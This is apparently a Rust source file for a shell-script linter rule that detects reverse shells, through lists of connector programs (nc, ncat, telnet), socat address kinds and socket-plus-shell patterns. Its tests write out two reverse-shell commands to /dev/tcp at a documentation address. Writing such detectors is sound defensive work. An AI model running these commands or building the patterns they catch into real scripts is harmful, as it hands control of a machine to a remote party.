use crate::shell::tree::{Command, Word};

use super::super::call::{Layer, layers};
use super::super::embedded::{SHELLS, reads_standard_input};
use super::super::feeds::{INTERPRETERS, MOST_PIPED};
use super::super::fetchers::{CONNECTIONS, connects};
use super::super::flow::Call;
use super::super::rule::{Report, Scene};

/// Programs that copy standard input to a connection.
const CONNECTORS: [&str; 6] = ["nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "telnet"];

/// What a program in another language needs for one: a connection, and a shell.
const SOCKETS: [&str; 4] = ["socket", "Socket", "fsockopen", "net.connect"];
const STARTS: [&str; 5] = ["/bin/sh", "/bin/bash", "pty.spawn", "sh -i", "\"sh\""];

pub(super) fn check(call: &Call<'_, '_>, _: Scene, report: &mut Report<'_>) {
    let layer = call.layer;
    let name = layer.name.as_str();
    let shell = SHELLS.contains(&name);
    let gives = if shell && is_connected(call) || name == "exec" && opens_device(call) {
        true
    } else if shell {
        reads_standard_input(layer) && has_connector_after(call)
    } else if CONNECTORS.contains(&name) {
        layer.has(&["--exec", "--sh-exec", "--lua-exec"]) || runs_program(layer)
    } else if name == "socat" {
        is_bridge(layer)
    } else {
        INTERPRETERS.contains(&name) && connects_in_code(layer)
    };
    if gives {
        // What is opened for later need not be read as commands; but that is what it is opened for, as a rule.
        let message = match name {
            "exec" => "this opens a connection over which another machine can give commands".to_owned(),
            _ => format!("with this `{name}` whoever is at the other end of a connection gives the commands"),
        };
        let finding = report.in_text(call.text, layer.head.span, message);
        finding.help = Some("leave it out: no build needs a shell that another machine commands".to_owned());
    }
}

/// Whether the redirections of a command are connections to another machine.
fn is_connected(call: &Call<'_, '_>) -> bool {
    call.simple.redirects.iter().any(|redirect| is_device(&redirect.target))
}

/// `exec 5<>/dev/tcp/…` opens one for what comes after; to this machine itself it asks whether a service is up.
fn opens_device(call: &Call<'_, '_>) -> bool {
    call.layer.arguments.is_empty() && call.simple.redirects.iter().any(connects)
}

fn is_device(word: &Word) -> bool {
    let text = word.literal_prefix();
    CONNECTIONS.iter().any(|device| text.starts_with(device))
}

/// Whether what a shell prints goes to a program that sends it away.
fn has_connector_after(call: &Call<'_, '_>) -> bool {
    let (commands, at) = call.pipeline;
    let after = commands.get(at + 1..).unwrap_or_default();
    at > 0
        && after.iter().take(MOST_PIPED).any(|command| {
            let Command::Simple(simple) = command else { return false };
            let found = layers(&simple.words, call.state);
            found.iter().any(|layer| CONNECTORS.contains(&layer.name.as_str()) || is_openssl_client(layer))
        })
}

fn is_openssl_client(layer: &Layer<'_>) -> bool {
    layer.name == "openssl" && layer.has(&["s_client"])
}

/// `-e PROGRAM` and `-c COMMAND` of traditional netcat and ncat, perhaps after other letters.
fn runs_program(layer: &Layer<'_>) -> bool {
    layer.literals().any(|text| {
        let letters = text.strip_prefix('-').filter(|rest| !rest.starts_with('-'));
        letters.is_some_and(|letters| letters.ends_with(['e', 'c']))
    })
}

/// Whether socat joins a program and an address elsewhere.
fn is_bridge(layer: &Layer<'_>) -> bool {
    let begins = |kinds: &[&str]| {
        layer.literals().any(|text| {
            let kind = text.split([':', ',']).next().unwrap_or_default().to_ascii_lowercase();
            kinds.contains(&kind.as_str())
        })
    };
    begins(&["exec", "system", "shell"])
        && begins(&[
            "tcp",
            "tcp4",
            "tcp6",
            "tcp-connect",
            "tcp4-connect",
            "tcp-listen",
            "tcp-l",
            "tcp4-listen",
            "udp",
            "udp4",
            "udp-listen",
            "openssl",
            "openssl-listen",
            "ssl",
            "ssl-l",
            "openssl-connect",
        ])
}

fn connects_in_code(layer: &Layer<'_>) -> bool {
    layer.literals().any(|code| {
        SOCKETS.iter().any(|text| code.contains(text)) && STARTS.iter().any(|text| code.contains(text))
    })
}

#[cfg(test)]
mod tests {
    use crate::lint::testing::lint_of;

    #[test]
    fn a_connection_that_is_only_opened_is_not_said_to_give_commands() {
        let said = |script: &str| {
            let findings = lint_of(script);
            let ours = findings.iter().find(|finding| finding.rule == "reverse-shell");
            ours.map(|finding| finding.message.clone()).unwrap_or_default()
        };
        assert!(said("exec 5<>/dev/tcp/203.0.113.7/4444").contains("this opens a connection"));
        assert!(said("bash <> /dev/tcp/203.0.113.7/4444").contains("with this `bash` whoever"));
    }
}
